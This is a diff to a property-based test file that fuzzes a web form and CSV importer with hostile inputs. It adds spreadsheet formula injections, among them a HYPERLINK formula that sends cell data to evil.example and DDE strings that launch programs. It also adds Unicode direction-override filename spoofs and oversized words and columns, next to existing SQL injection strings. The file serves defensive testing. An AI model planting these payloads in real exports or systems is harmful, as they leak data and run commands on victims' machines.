@@ -198,6 +198,34 @@ WRONG_TYPES = st.one_of(
     st.integers(-3, 500).map(str),  # ids of records, others' included
     st.sampled_from(["yes", "no", "on", "off", "true", "null", "None", "[]", "{}", "na", "-"]),
 )
+# Spreadsheet formulas (OWASP's CSV injection starts): names like these reach CSV exports.
+FORMULA = st.sampled_from(
+    [
+        '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3",
+        "=1+1",
+        "\t=1+1",
+        "\r=1+1",
+        "=cmd|'/C notepad'!'A1'",
+    ]
+)
+# Direction overrides and isolates: "gnp.exe" that would read "exe.png".
+BIDI = st.sampled_from(
+    [
+        "\u202egnp.exe",
+        "photo\u202eexe.png",
+        "\u202a\u202b\u202c\u202d\u202e",
+        "\u2066x\u2067y\u2068z\u2069",
+        "a\u200fb\u200ec",  # marks: allowed to stay
+        "\u202e" * 50,
+    ]
+)
+# Controls that must never reach a page (forminput.clean_text and the Jinja finalize).
+BIDI_OVERRIDE = re.compile("[\u202a-\u202e\u2066-\u2069]")
+# Unbroken words longer than any line, page or cell.
+LONG_WORD = st.sampled_from(["W" * 4000, "https://example.org/" + "a" * 5000, "x" * 10_001])
 SQL = st.sampled_from(["' OR 1=1 --", "Robert'); DROP TABLE user;--", "%", "_", "\\", "%%"])
 
 
@@ -242,6 +270,9 @@ HOSTILE = st.one_of(
     SQL,
     HTML,
     PLAIN,
+    FORMULA,
+    BIDI,
+    LONG_WORD,
 )
 # Two hostile pieces side by side ("<script>… + NUL", "valid date + RTL override", …).
 MIXED = st.tuples(HOSTILE, HOSTILE).map("".join)
@@ -297,7 +328,7 @@ WORDS = st.lists(
     max_size=8,
 ).map(" ".join)
 # Text a person could type that a form should accept — markup and scripts included.
-TEXT = st.one_of(WORDS, WORDS, UNICODE, HTML, st.tuples(WORDS, HTML).map(" ".join))
+TEXT = st.one_of(WORDS, WORDS, UNICODE, HTML, st.tuples(WORDS, HTML).map(" ".join), FORMULA, BIDI)
 
 
 def plausible(fld: Field, *, password: str, known_emails: list[str]) -> st.SearchStrategy:
@@ -337,7 +368,11 @@ FILENAMES = st.one_of(
 
 def csv_file(headers: list[str]) -> st.SearchStrategy[bytes]:
     """A CSV with the right columns (mostly) and hostile cells, in one of the usual codecs."""
-    header = st.one_of(st.just(headers), st.lists(st.sampled_from([*headers, "x", ""])))
+    # The right columns, some wrong ones, or far too many (a wide file: 999 to 20,000 columns).
+    wide = st.sampled_from([999, 1000, 1001, 20_000]).map(
+        lambda n: [*headers, *(f"c{i}" for i in range(n - len(headers)))]
+    )
+    header = st.one_of(st.just(headers), st.lists(st.sampled_from([*headers, "x", ""])), wide)
     cell = st.one_of(HOSTILE, st.emails().map(str), dates())
 
     def build(head, rows, sep, codec):
